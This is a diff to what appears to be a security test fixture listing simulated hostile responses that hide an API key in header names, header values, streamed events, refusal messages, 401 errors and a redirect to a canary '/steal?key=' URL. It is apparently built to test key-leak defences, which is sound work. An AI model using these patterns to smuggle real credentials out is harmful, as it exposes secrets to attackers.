@@ -348,6 +348,9 @@ MORE: dict[str, Attack] = {
     "a_redirect_with_the_key": lambda a: redirected(a, 307, "{canary}/steal?key=" + _key(a)),
     "key_everywhere": _key_everywhere,
     "key_in_thirds": _key_in_thirds,
+    "key_a_sign_a_header": lambda a: response(body_of(a), *(f"x-sign: {sign}" for sign in _key(a)), kind=kind_of(a)),
+    "key_in_names_of_headers": lambda a: response(body_of(a), f"x-{_key(a)}: 1", kind=kind_of(a)),
+    "key_a_sign_an_event": lambda a: _events(a, start() + BLOCK + b"".join(map(delta, _key(a))) + end()),
     "key_in_a_refusal": lambda a: refusal(_key(a), type=_key(a), request_id=_key(a)),
     "key_in_a_401": lambda a: refusal(
         "".join(f"\\u{ord(sign):04x}" for sign in _key(a)), "401 " + _key(a), type="authentication_error"
